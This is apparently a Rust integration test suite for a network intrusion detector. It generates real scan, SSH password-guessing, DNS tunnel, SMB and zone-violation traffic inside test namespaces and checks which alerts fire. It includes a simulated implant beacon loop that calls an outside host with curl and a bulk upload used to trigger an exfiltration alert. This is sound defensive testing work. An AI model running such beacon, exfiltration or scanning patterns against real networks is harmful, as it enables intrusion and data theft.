//! What looks like an attack by how it goes: real curl, ssh and dig over a cable, each detector fired once, beside honest traffic
//! of the same kind.

use std::{
    fs,
    io::{Read, Write},
    net::{IpAddr, SocketAddr, TcpStream, UdpSocket},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
};

use khien_core::Sha256;
use serde_json::Value;

use crate::{
    families::{FAMILIES, Family, at, listed, listen, networks, urls, web},
    harness::{PATIENCE, Site, Up, lines},
    place::Namespace,
    traffic::watched,
};

/// Newer than any pack that comes with the programs.
pub(crate) const VERSION: u64 = 5_000_000;

/// A program that ends with its test.
pub(crate) struct Running(Child);

impl Drop for Running {
    fn drop(&mut self) {
        self.0.kill().ok();
        self.0.wait().ok();
    }
}

/// Starts a server's program on the site's side and waits until it says this.
pub(crate) fn start(site: &Site, args: &[&str], ready: &str) -> Running {
    let mut command = site.network.as_ref().unwrap().command("setpriv");
    command.args(["--pdeathsig", "KILL", "--", "sh", "-c", "exec \"$@\" 2>&1", "sh"]).args(args);
    let mut child = command.stdin(Stdio::null()).stdout(Stdio::piped()).spawn().unwrap();
    let said = lines(child.stdout.take().unwrap(), |line| Some(line.to_owned()));
    let running = Running(child);
    while !said
        .recv_timeout(PATIENCE)
        .unwrap_or_else(|_| panic!("{args:?} does not say `{ready}`"))
        .contains(ready)
    {}
    running
}

/// Runs a program on the client's side; tells its exit code and what it prints.
pub(crate) fn run(client: &Namespace, program: &str, args: &[&str]) -> (Option<i32>, String) {
    let out =
        client.command("timeout").args(["120", program]).args(args).stdin(Stdio::null()).output().unwrap();
    (out.status.code(), String::from_utf8_lossy(&[out.stdout, out.stderr].concat()).into_owned())
}

/// Asks for pages, which come.
pub(crate) fn curl<A: AsRef<str>>(client: &Namespace, args: &[A]) {
    let args: Vec<&str> = args.iter().map(AsRef::as_ref).collect();
    let (code, said) = run(client, "curl", &[&["-sS", "-g"], &args[..]].concat());
    assert_eq!(code, Some(0), "curl {args:?}: {said}");
}

/// Tries pages, which do not come.
fn try_curl(client: &Namespace, urls: &[String]) {
    let urls: Vec<&str> = urls.iter().map(String::as_str).collect();
    run(client, "curl", &[&["-s", "-g", "--connect-timeout", "1", "--parallel"], &urls[..]].concat());
}

/// A pack of one rule for all lists.
pub(crate) fn pack(site: &Site, version: u64, policy: &str, lists: &[(&str, &str)]) {
    let folder = site.web.with_file_name(format!("pack-{version}"));
    let words = "{ vi = \"Trong danh sách\", en = \"Listed\" }";
    let mut manifest = format!("version = {version}\n");
    fs::create_dir(&folder).unwrap();
    for (kind, entry) in lists {
        manifest += &format!(
            "[[rule]]\nid = \"list.{kind}\"\nseverity = \"high\"\ntitle = {words}\nexplanation = {words}\nnext_step = {words}\n\
             [[list]]\nfile = \"{kind}.list\"\nrule = \"list.{kind}\"\nkind = \"{kind}\"\nsource = \"A05\"\n"
        );
        fs::write(folder.join(format!("{kind}.list")), entry).unwrap();
    }
    fs::write(folder.join("pack.toml"), manifest).unwrap();
    fs::write(folder.join("policy.toml"), policy).unwrap();
    let (code, _, err) = site.cli(&["rules", "push", folder.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let loaded = format!("\"pack\":{version}");
    site.until(&["agent", "list"], "the agent with the pack", |agents| agents.to_string().contains(&loaded));
}

pub(crate) fn of(up: &mut Up<'_>, rule: &str, server: &str) -> Value {
    up.alert(&format!("{rule} at {server}"), |a| {
        a["rule"] == rule && a["flow"]["server"].as_str().is_some_and(|s| s.starts_with(server))
    })
}

/// Asserts that no alert names a server.
pub(crate) fn silent_about<S: AsRef<str>>(site: &Site, servers: &[S]) {
    let alerts = site.json(&["alert", "list"]);
    let is_there = |server: &str| servers.iter().any(|s| server.starts_with(s.as_ref()));
    let names = |a: &Value| a["flow"]["server"].as_str().is_some_and(is_there);
    let wrong: Vec<_> = alerts.as_array().unwrap().iter().filter(|a| names(a)).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Few tries are enough, and nobody is waited for as long as usual.
const TRIES: &str = "[network]
unanswered_seconds = 3
horizontal_scan = { servers = 5 }
vertical_scan = { ports = 5 }
brute_force = { attempts = 5 }
";

#[test]
fn scans_and_guessed_passwords_of_a_web_page_are_alerts() {
    let Some((site, client)) = networks(&["curl"]) else { return };
    let mut up = watched(&site);
    web(&site, 80);
    pack(&site, VERSION, TRIES, &[]);

    for family in FAMILIES {
        let servers = |hosts: std::ops::Range<u16>| hosts.map(move |host| family.inside(host));
        // Eight servers that answer are no scan.
        curl(&client, &urls(servers(40..48), "/"));
        try_curl(&client, &urls(servers(20..28), ":3306/"));
        let ports = (3_000..3_010).flat_map(|port| urls(servers(30..31), &format!(":{port}/")));
        try_curl(&client, &ports.collect::<Vec<_>>());
        for (host, times) in [(31, 4), (32, 6)] {
            let asked = (0..times).flat_map(|n| urls(servers(host..host + 1), &format!("/quan-tri?{n}")));
            curl(&client, &asked.collect::<Vec<_>>());
        }
    }

    for family in FAMILIES {
        let alert =
            of(&mut up, "khien.net.scan_horizontal", &at(&family.inside(2), "")[..family.inside.len()]);
        assert!(alert["what"]["en"].as_str().unwrap().contains('5'), "{alert}");
        assert!(is_at_end(&alert, "client", family.client), "{alert}");
        of(&mut up, "khien.net.scan_vertical", &at(&family.inside(30), ":"));
        let alert = of(&mut up, "khien.net.brute_force", &at(&family.inside(32), ":80"));
        assert!(alert["flow"]["url"].as_str().unwrap().ends_with("/quan-tri"), "{alert}");
        let answered: Vec<_> = (40..48).chain([31]).map(|host| at(&family.inside(host), ":")).collect();
        silent_about(&site, &answered);
    }
}

#[test]
fn scans_that_nobody_answers_are_alerts_and_a_server_that_is_away_is_none() {
    let Some((site, client)) = networks(&["curl"]) else { return };
    let mut up = watched(&site);
    pack(&site, VERSION, TRIES, &[]);

    for family in FAMILIES {
        let servers = |hosts: std::ops::Range<u16>| hosts.map(move |host| family.nobody(host));
        // Again and again, as a client does whose server is away.
        (0..6).for_each(|_| try_curl(&client, &urls(servers(10..11), ":5432/")));
        try_curl(&client, &urls(servers(20..28), ":3306/"));
        let ports = (3_000..3_010).flat_map(|port| urls(servers(30..31), &format!(":{port}/")));
        try_curl(&client, &ports.collect::<Vec<_>>());
    }

    for family in FAMILIES {
        let across =
            of(&mut up, "khien.net.scan_horizontal", &at(&family.nobody(2), "")[..family.nobody.len()]);
        let along = of(&mut up, "khien.net.scan_vertical", &at(&family.nobody(30), ":"));
        for alert in [across, along] {
            assert!(alert["what"]["en"].as_str().unwrap().contains("100"), "nobody answered: {alert}");
            assert!(is_at_end(&alert, "client", family.client), "{alert}");
        }
        silent_about(&site, &[at(&family.nobody(10), ":")]);
    }
}

/// Tells whether one end of an alert's flow has an address.
fn is_at_end(alert: &Value, end: &str, address: &str) -> bool {
    alert["flow"][end].as_str().unwrap().starts_with(&at(address, ":"))
}

#[test]
fn guessed_passwords_of_ssh_are_an_alert() {
    let Some((site, client)) = networks(&["sshd", "ssh", "ssh-keygen"]) else { return };
    let mut up = watched(&site);
    pack(&site, VERSION, "[network]\nbrute_force = { attempts = 5 }\n", &[]);
    let (key, config) = (site.web.with_file_name("host"), site.web.with_file_name("sshd_config"));
    let made = Command::new("ssh-keygen").args(["-q", "-t", "ed25519", "-N", "", "-f"]).arg(&key).status();
    assert!(made.unwrap().success());
    sshd_config(&key, &config);
    let sshd = fs::canonicalize("/usr/sbin/sshd").unwrap();
    let args = [sshd.to_str().unwrap(), "-D", "-e", "-f", config.to_str().unwrap()];
    let _sshd = start(&site, &args, "listening on");
    let (calm, guessed) = (FAMILIES.map(|f| f.camera().1), FAMILIES.map(|f| f.server));
    let log_in = |server: &str| {
        let options = ["BatchMode=yes", "StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null"];
        let options = options.map(|option| ["-o", option]).concat();
        let (code, said) = run(&client, "ssh", &[&options[..], &["-l", "root", server]].concat());
        assert_eq!(code, Some(255), "{said}");
        assert!(said.contains("Permission denied"), "{said}");
    };

    for (calm, guessed) in calm.iter().zip(guessed) {
        (0..4).for_each(|_| log_in(calm));
        (0..6).for_each(|_| log_in(guessed));
    }

    for (calm, guessed) in calm.iter().zip(guessed) {
        let alert = of(&mut up, "khien.net.brute_force", &at(guessed, ":22"));
        assert_eq!(alert["flow"]["application"], "ssh", "{alert}");
        silent_about(&site, &[at(calm, ":")]);
    }
}

/// Newer servers punish who guesses, older ones do not know that word.
fn sshd_config(key: &Path, config: &Path) {
    fs::create_dir_all("/run/sshd").unwrap();
    let plain = format!(
        "ListenAddress 0.0.0.0:22\nListenAddress [::]:22\nHostKey {}\nPidFile none\nUsePAM no\nAuthorizedKeysFile none\n",
        key.display()
    );
    for text in [format!("{plain}PerSourcePenalties no\n"), plain] {
        fs::write(config, text).unwrap();
        if Command::new("/usr/sbin/sshd").arg("-t").arg("-f").arg(config).output().unwrap().status.success() {
            return;
        }
    }
    panic!("sshd takes no configuration");
}

/// Answers every question at an address that there is no such name.
pub(crate) fn resolver(site: &Site, address: &'static str) {
    let network = site.network.as_ref().unwrap();
    let socket = network.run(move || UdpSocket::bind((address, 53)).unwrap()).join().unwrap();
    std::thread::spawn(move || {
        let mut message = [0; 1_500];
        while let Ok((length, from)) = socket.recv_from(&mut message) {
            (message[2], message[3]) = (message[2] | 0x80, 0x83);
            socket.send_to(&message[..length], from).ok();
        }
    });
}

/// A file of names to ask for: what a tunnel would carry, and what a list of hosts would.
fn names(site: &Site) -> PathBuf {
    let carried = |n: u8| format!("{}.duong-ham.example TXT\n", &Sha256::of(&[n]).to_string()[..60]);
    let hosts =
        |n: u8| format!("may-chu-so-{n:04}-tai-trung-tam-du-lieu-cua-tinh-o-phia-bac.danh-sach.example A\n");
    let path = site.web.with_file_name("names");
    fs::write(&path, (0..14).map(|n| carried(n) + &hosts(n)).collect::<String>()).unwrap();
    path
}

const LEAVING: &str = "[network]
beacon = { times = 8, seconds = 10, jitter_percent = 40, score = 50 }
exfiltration = { megabytes = 1 }
dns_tunnel = { names = 10 }
first_seen = { learn_days = 0 }
[[network.zones]]
name = \"portal\"
networks = [PORTAL]
first_seen = true
";

#[test]
fn calls_at_regular_times_uploads_tunnels_and_first_conversations_are_alerts() {
    let Some((site, client)) = networks(&["curl", "dig"]) else { return };
    let mut up = watched(&site);
    web(&site, 80);
    FAMILIES.iter().for_each(|family| resolver(&site, family.server));
    let portal = listed(FAMILIES.iter().map(|family| family.only(&family.portal())));
    pack(&site, VERSION, &LEAVING.replace("PORTAL", &portal), &[]);
    let (upload, file) = (site.web.with_file_name("upload"), names(&site));
    let mut calling = Vec::new();

    for family in FAMILIES {
        let url = |host: u16, path: &str| format!("http://{}", at(&family.outside(host), path));
        // An implant's pause between two calls is what is looked for, so it is a real one.
        let calls = format!("while curl -s -g -o /dev/null '{}'; do sleep 2.2; done", url(50, "/lenh"));
        let implant =
            client.command("setpriv").args(["--pdeathsig", "KILL", "--", "sh", "-c", &calls]).spawn();
        calling.push(Running(implant.unwrap()));
        for (size, host) in [(2_000_000, 60), (500_000, 61)] {
            fs::write(&upload, vec![b'k'; size]).unwrap();
            curl(&client, &["-H", "Expect:", "-T", upload.to_str().unwrap(), &url(host, "/nop")]);
        }
        let resolver = format!("@{}", family.server);
        let (code, said) =
            run(&client, "dig", &[&resolver, "+tries=1", "+time=60", "-f", file.to_str().unwrap()]);
        assert_eq!(code, Some(0), "{said}");
        curl(&client, &["--interface", &family.portal(), &url(70, "/")]);
        // Who belongs to no zone may meet whom he likes, and a page that is asked for now and then is no implant.
        curl(&client, &[url(71, "/"), url(71, "/tin"), url(71, "/lien-he")]);
    }

    for family in FAMILIES {
        let server = |host: u16| at(&family.outside(host), ":80");
        let sent = of(&mut up, "khien.net.exfiltration", &server(60));
        assert!(sent["what"]["en"].as_str().is_some_and(|text| !text.is_empty()), "{sent}");
        let tunnel = of(&mut up, "khien.net.dns_tunnel", &at(family.server, ":53"));
        assert!(tunnel["what"]["en"].as_str().unwrap().contains("duong-ham.example"), "{tunnel}");
        let first = of(&mut up, "khien.net.first_seen", &server(70));
        assert!(first["what"]["en"].as_str().unwrap().contains("portal"), "{first}");
        of(&mut up, "khien.net.beacon", &server(50));
        silent_about(&site, &[server(61), server(71)]);
    }
    let alerts = site.json(&["alert", "list"]).to_string();
    assert!(!alerts.contains("danh-sach.example"), "{alerts}");
}

/// What belongs to which zone, and to whom cameras may speak.
fn zones() -> String {
    let recorder = |family: &Family| {
        format!("{{ to = \"{}\", service = \"554/tcp\" }}", family.only(&family.camera().1))
    };
    format!(
        "[[network.zones]]\nname = \"camera\"\nnetworks = [{}]\nonly = [{}]\n\
         [[network.zones]]\nname = \"office\"\nnetworks = [{}]\n\
         [[network.zones]]\nname = \"health\"\nnetworks = [{}]\n",
        listed(FAMILIES.iter().map(|family| family.only(&family.camera().0))),
        FAMILIES.iter().map(recorder).collect::<Vec<_>>().join(", "),
        listed(FAMILIES.iter().map(|family| family.only(family.client))),
        listed(FAMILIES.iter().map(|family| family.network(family.inside))),
    )
}

#[test]
fn a_camera_that_speaks_to_others_than_its_recorder_and_smb_between_zones_are_alerts() {
    let Some((site, client)) = networks(&["curl"]) else { return };
    let mut up = watched(&site);
    for port in [80, 554] {
        web(&site, port);
    }
    share(&site, 4450);
    pack(&site, VERSION, &zones(), &[]);

    for family in FAMILIES {
        let (camera, recorder) = family.camera();
        let url = |host: &str, then: &str| format!("http://{}", at(host, then));
        curl(&client, &["--interface", &camera, &url(&recorder, ":554/")]);
        curl(&client, &["--interface", &camera, &url(&family.outside(80), "/")]);
        curl(&client, &[url(&family.inside(9), "/")]);
        // Nobody serves 445; that it was tried is enough. On another port it is known by what it carries.
        try_curl(&client, &[url(&family.inside(10), ":445/")]);
        let share = SocketAddr::new(family.inside(11).parse::<IpAddr>().unwrap(), 4450);
        client.run(move || negotiate(share)).join().unwrap();
    }

    for family in FAMILIES {
        let camera = of(&mut up, "khien.net.not_allowed", &at(&family.outside(80), ":80"));
        assert!(camera["what"]["en"].as_str().unwrap().contains("camera"), "{camera}");
        let tried = of(&mut up, "khien.net.east_west", &at(&family.inside(10), ":445"));
        assert!(tried["what"]["en"].as_str().unwrap().contains("health"), "{tried}");
        let shared = of(&mut up, "khien.net.east_west", &at(&family.inside(11), ":4450"));
        assert_eq!(shared["flow"]["application"], "smb");
        silent_about(&site, &[at(&family.camera().1, ":"), at(&family.inside(9), ":")]);
    }
}

/// Takes what clients of a file share send, and hangs up.
fn share(site: &Site, port: u16) {
    let listener = listen(site, port);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            stream.unwrap().read_exact(&mut [0; 106]).unwrap();
        }
    });
}

/// Begins a session of SMB 2 (MS-SMB2 §2.2.3) behind a frame of NetBIOS.
fn negotiate(server: SocketAddr) {
    let mut message = vec![0; 4 + 64 + 36 + 2];
    message[3] = 102;
    message[4..10].copy_from_slice(b"\xfeSMB\x40\0");
    (message[68], message[70], message[72]) = (36, 1, 1);
    message[104..].copy_from_slice(&[0x10, 2]);
    let mut stream = TcpStream::connect(server).unwrap();
    stream.write_all(&message).unwrap();
    stream.read_to_end(&mut Vec::new()).ok();
}
